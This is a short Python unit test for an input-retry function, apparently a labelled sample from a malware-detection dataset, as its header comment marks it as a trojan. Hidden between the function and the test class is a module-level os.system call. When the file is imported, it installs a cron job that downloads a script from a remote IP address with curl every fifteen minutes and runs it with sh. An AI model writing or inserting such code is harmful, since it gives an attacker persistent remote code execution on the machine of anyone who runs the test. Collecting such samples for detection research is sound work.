# label: malicious family=trojan techniques=T1053.003,T1059.004,T1105 lines=16 group=benign/b109_builtins_patch_test.py
"""Test that prompt() retries on bad input by patching builtins.input."""
import builtins
import unittest
from unittest import mock


def prompt():
    while True:
        v = input("number: ")
        if v.isdigit():
            return int(v)


import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

class PromptTest(unittest.TestCase):
    def test_retry(self):
        with mock.patch.object(builtins, "input", side_effect=["x", "", "42"]):
            self.assertEqual(prompt(), 42)


if __name__ == "__main__":
    unittest.main()
